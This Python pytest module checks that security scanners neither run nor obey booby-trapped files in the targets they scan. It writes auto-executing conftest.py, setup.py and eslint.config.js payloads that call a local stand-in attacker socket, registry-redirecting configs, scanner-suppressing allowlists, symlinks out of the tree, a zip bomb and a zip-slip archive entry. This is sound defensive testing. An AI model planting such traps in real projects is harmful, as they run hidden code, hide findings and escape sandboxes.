"""Targets that attack whoever scans them: every real scanner still finds its bait, and nothing of the attack happens.

The attacks are those a scanner's own machinery could carry out: configuration that names code or another service, code
that a test runner or an installer would start, links out of the tree, archives that grow, lines without an end.
"""

import io
import json
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from socketserver import BaseRequestHandler, ThreadingTCPServer
from threading import Thread

import pytest

from tasks.adapters.scanners.catalogue import SCANNERS
from tests.adapters.scanners.installed_scanners import InstalledScanners, ScannerMissingError
from tests.adapters.scanners.performing import perform
from tests.adapters.scanners.scan_cases import Answer, Case
from tests.adapters.scanners.services import bait_case, surroundings

pytestmark = pytest.mark.network

_RUN_HERE = [name for name, scanner in SCANNERS.items() if name not in ("codeql", "trufflehog") and scanner.bait]
_LONG_LINE = 5_000_000
_BOMB_BYTES = 200_000_000


@dataclass
class Attacker:
    """Somebody who waits for a scanner to call."""

    port: int = 0
    calls: list[bytes] = field(default_factory=list)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    attacker = Attacker()

    class Waiting(BaseRequestHandler):
        def handle(self) -> None:
            attacker.calls.append(self.request.recv(4096))

    with ThreadingTCPServer(("127.0.0.1", 0), Waiting) as server:
        attacker.port = server.server_address[1]
        thread = Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        yield attacker
        server.shutdown()
        thread.join()


def attack(attacker: Attacker, loot: Path) -> Mapping[str, str]:
    """Files that do harm as soon as anybody runs or obeys them."""
    call = f"import socket; socket.create_connection(('127.0.0.1', {attacker.port}), 2).send(b'in')"
    code = f"{call}\nopen({str(loot)!r}, 'w').write('in')\n"
    script = f"require('net').connect({attacker.port}, '127.0.0.1'); require('fs').writeFileSync({str(loot)!r}, 'in')\n"
    address = f"http://127.0.0.1:{attacker.port}/"
    return {
        "conftest.py": code,
        "setup.py": code,
        "sitecustomize.py": code,
        "checks/__init__.py": code,
        "eslint.config.js": script,
        ".pnpmfile.cjs": script,
        ".npmrc": f"registry={address}\nignore-scripts=false\n",
        ".yarnrc.yml": f"npmRegistryServer: {address}\nyarnPath: ./eslint.config.js\n",
        "bunfig.toml": f'[install]\nregistry = "{address}"\npreload = ["./eslint.config.js"]\n',
        "pip.conf": f"[global]\nindex-url = {address}\n",
        ".bandit": "[bandit]\nskips = B101,B102,B103,B104,B105,B301,B307,B602,B603,B604,B605,B607\nexclude = /\n",
        ".checkov.yaml": "external-checks-dir: [/target/checks]\nskip-check: [CKV*]\n",
        ".gitleaks.toml": "[allowlist]\npaths = ['''.*''']\n",
        ".secrets.baseline": json.dumps({"filters_used": [{"path": "file:///target/conftest.py::x"}], "results": {}}),
        ".trivyignore": "CVE-2019-10906\nCVE-2016-10745\n",
        "trivy.yaml": f"server:\n  addr: {address}\n",
        ".safety-policy.yml": "security:\n  ignore-cvss-severity-below: 10\n",
    }


def plant(folder: Path, loot: Path) -> None:
    """What is no text: links out of the tree and around in it, an archive that grows, a line without an end."""
    (folder / "out").symlink_to(loot.parent)
    (folder / "root").symlink_to("/")
    (folder / "around").symlink_to(folder / "around")
    (folder / "up").symlink_to("..")
    (folder / "long.py").write_text("x = '" + "a" * _LONG_LINE + "'\n")
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", b"\0" * _BOMB_BYTES)
        archive.writestr("../../escaped", b"in")
    (folder / "bomb.zip").write_bytes(packed.getvalue())
    (folder / "bomb.jar").write_bytes(packed.getvalue())


@pytest.mark.parametrize("name", _RUN_HERE)
def test_a_hostile_target_gets_nothing_and_hides_nothing(
    name: str, scanner_tools: InstalledScanners, attacker: Attacker, tmp_path: Path
) -> None:
    """Given a target full of traps, the scanner reports its bait, calls nobody and leaves nothing behind."""
    loot = tmp_path / "loot"
    case = bait_case(SCANNERS[name], {"framework": ("terraform",)} if name == "checkov" else None)
    hostile = _among(case, attack(attacker, loot))
    try:
        with surroundings(hostile, tmp_path / "services") as around:
            ran = perform(hostile, scanner_tools, tmp_path / "case", around, plant=lambda folder: plant(folder, loot))
    except ScannerMissingError as missing:
        pytest.skip(str(missing))
    answer, reading = hostile.judge(ran.exit_code, ran.output)

    assert attacker.calls == []
    assert not loot.exists()
    assert not (tmp_path / "escaped").exists()
    assert answer is Answer.FINDINGS, (answer, ran.output.log[-2000:])
    assert reading is not None
    assert hostile.rules & {sighting.rule for sighting in reading.sightings}


def _among(case: Case, traps: Mapping[str, str]) -> Case:
    """The case with the traps beside its own files, in the tree and in the history."""
    commits = tuple({**traps, **state} for state in case.commits)
    return replace(case, files={**traps, **case.files}, commits=commits)
